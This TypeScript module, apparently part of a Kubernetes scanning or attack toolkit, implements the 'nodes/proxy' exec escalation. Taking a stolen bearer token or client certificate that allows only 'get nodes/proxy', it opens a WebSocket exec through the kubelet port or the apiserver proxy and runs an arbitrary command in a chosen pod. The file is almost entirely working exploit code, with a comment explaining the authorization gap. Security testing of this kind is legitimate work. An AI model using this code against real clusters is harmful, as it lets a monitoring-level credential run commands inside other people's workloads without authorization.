// `nodes-proxy-exec`: a credential allowed only `get nodes/proxy` (what monitoring tools are granted) runs a
// command in a pod. A WebSocket exec starts as a GET, and the kubelet authorizes `/exec` with the verb of the
// HTTP method, so `get` is enough — Kubernetes documents that `get nodes/proxy` is not a read-only permission.
// Two ways in: straight to the kubelet's port, or through the apiserver's nodes/proxy subresource, where the
// apiserver authorizes the user with `get nodes/proxy` and the kubelet then sees only the apiserver's own
// identity, so no kubelet-side gate applies on that path.
import { ChannelBuffers, Channel, REMOTE_COMMAND_PROTOCOLS, statusFailure } from '../scan/channel-messages.ts';
import { remoteCommandPath } from '../scan/remote-command-probe.ts';
import { formatAddress, parseTarget } from '../scan/target.ts';
import type { ScanCredentials } from '../scan/types.ts';
import { dialWebSocket, type ProbeWebSocket } from '../scan/websocket-dial.ts';

/** Which door: the kubelet's own port, or the apiserver's `nodes/<node>/proxy/`. */
export type NodesProxyRoute = { via: 'kubelet'; kubelet: string } | { via: 'apiserver'; server: string; node: string };

/** One attempt. */
export interface NodesProxyExecOptions {
  route: NodesProxyRoute;
  namespace: string;
  pod: string;
  container: string;
  command: readonly string[];
  /** The stolen credential (a bearer token, or a client certificate). */
  credentials: ScanCredentials;
  /** Bound of the whole attempt (default 10 s). */
  timeoutMs?: number;
}

/** What happened: the command ran (its output), or the answer that refused it, or no answer. */
export type NodesProxyExecResult =
  | { outcome: 'executed'; url: string; status: 101; subprotocol: string; output: string; failure?: string }
  | { outcome: 'unauthenticated' | 'forbidden' | 'refused'; url: string; status: number; text: string }
  | { outcome: 'error'; url: string; error: string };

const DEFAULT_TIMEOUT_MS = 10_000;

/** The `wss:` URL of the exec for `options.route`. */
export function nodesProxyExecUrl(options: Pick<NodesProxyExecOptions, 'route' | 'namespace' | 'pod' | 'container' | 'command'>): string {
  const path = remoteCommandPath({ kind: 'exec', target: { namespace: options.namespace, pod: options.pod, container: options.container, source: 'options' }, command: options.command });
  if (options.route.via === 'kubelet') return `wss://${formatAddress(parseTarget(options.route.kubelet))}${path}`;
  const server = new URL(options.route.server);
  return `wss://${server.host}/api/v1/nodes/${encodeURIComponent(options.route.node)}/proxy${path}`;
}

/** Try the exec; never rejects. */
export async function nodesProxyExec(options: NodesProxyExecOptions): Promise<NodesProxyExecResult> {
  const url = nodesProxyExecUrl(options);
  const timeoutMs = options.timeoutMs ?? DEFAULT_TIMEOUT_MS;
  const dialed = await dialWebSocket({ url, protocols: REMOTE_COMMAND_PROTOCOLS, credentials: options.credentials, timeoutMs });
  if (dialed.kind === 'failed') return { outcome: 'error', url, error: dialed.error };
  if (dialed.kind === 'refused') {
    const outcome = dialed.status === 401 ? 'unauthenticated' : dialed.status === 403 ? 'forbidden' : 'refused';
    return { outcome, url, status: dialed.status, text: statusMessage(dialed.body) };
  }
  const buffers = await readUntilClosed(dialed.ws, timeoutMs);
  const failure = statusFailure(buffers.text(Channel.error));
  return {
    outcome: 'executed',
    url,
    status: 101,
    subprotocol: dialed.protocol,
    output: buffers.text(Channel.stdout) + buffers.text(Channel.stderr),
    ...(failure ? { failure } : {}),
  };
}

/** What a user sees of a refusal: a Status object's message (the apiserver's), or the plain text (the kubelet's). */
export function statusMessage(body: string): string {
  try {
    const status = JSON.parse(body) as { kind?: string; message?: string };
    if (status.kind === 'Status' && typeof status.message === 'string') return status.message;
  } catch {
    // not JSON: the kubelet's own text
  }
  return body.trim();
}

function readUntilClosed(ws: ProbeWebSocket, timeoutMs: number): Promise<ChannelBuffers> {
  const buffers = new ChannelBuffers();
  return new Promise((resolve) => {
    const done = (): void => {
      clearTimeout(deadline);
      if (ws.readyState === 1) ws.close(1000);
      setTimeout(() => ws.terminate(), 1000).unref();
      resolve(buffers);
    };
    const deadline = setTimeout(done, timeoutMs);
    ws.on('message', (data) => buffers.add(data));
    ws.once('close', done);
  });
}
